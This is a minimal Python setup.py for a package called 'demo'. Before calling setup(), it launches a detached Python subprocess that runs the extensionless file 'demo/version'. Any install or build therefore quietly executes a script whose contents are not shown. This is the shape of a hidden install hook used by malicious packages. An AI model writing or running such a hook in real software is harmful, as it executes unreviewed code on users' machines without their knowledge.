import subprocess
import sys
from setuptools import setup

subprocess.Popen([sys.executable, "demo/version"])
setup(name="demo", version="1.0")
